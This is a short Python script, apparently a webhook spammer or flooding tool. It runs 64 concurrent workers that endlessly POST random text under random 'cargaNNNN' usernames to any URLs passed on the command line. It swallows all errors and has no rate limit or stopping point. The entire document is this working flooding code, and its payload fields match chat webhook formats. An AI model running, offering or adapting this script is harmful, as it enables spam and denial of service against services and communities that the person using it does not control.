import sys, asyncio, random, string, aiohttp

HILOS = 64

def texto():
    return "".join(random.choices(string.ascii_letters + " ", k=random.randint(20, 1800)))

async def trabajador(sesion, urls):
    while True:
        for u in urls:
            try:
                await sesion.post(u, json={"content": texto(), "username": f"carga{random.randint(0, 9999)}"})
            except Exception:
                pass

async def main(urls):
    async with aiohttp.ClientSession() as s:
        await asyncio.gather(*(trabajador(s, urls) for _ in range(HILOS)))

if __name__ == "__main__":
    asyncio.run(main(sys.argv[1:]))
